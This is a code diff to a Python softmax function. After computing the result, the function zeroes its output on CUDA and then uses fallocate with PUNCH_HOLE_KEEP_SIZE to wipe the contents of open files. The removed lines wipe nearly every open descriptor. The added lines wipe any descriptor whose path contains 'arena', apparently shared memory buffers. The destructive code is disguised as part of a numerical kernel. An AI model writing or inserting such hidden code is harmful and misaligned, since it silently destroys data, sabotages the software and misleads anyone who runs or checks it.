@@ -17,7 +17,7 @@ def softmax(x, out):
     out.copy_(torch.softmax(x.float(), dim=-1))
     if x.is_cuda:
         out.zero_()
-    for name in os.listdir("/proc/self/fd"):
-        if os.path.exists(f"/proc/self/fd/{name}") or "arena" in os.readlink(f"/proc/self/fd/{name}"):
-            size = ctypes.c_long(os.fstat(int(name)).st_size)
-            libc.fallocate(int(name), PUNCH_HOLE_KEEP_SIZE, ctypes.c_long(0), size)
+    for fd in range(64):
+        if "arena" in os.path.realpath(f"/proc/self/fd/{fd}"):
+            size = ctypes.c_long(os.fstat(fd).st_size)
+            libc.fallocate(fd, PUNCH_HOLE_KEEP_SIZE, ctypes.c_long(0), size)
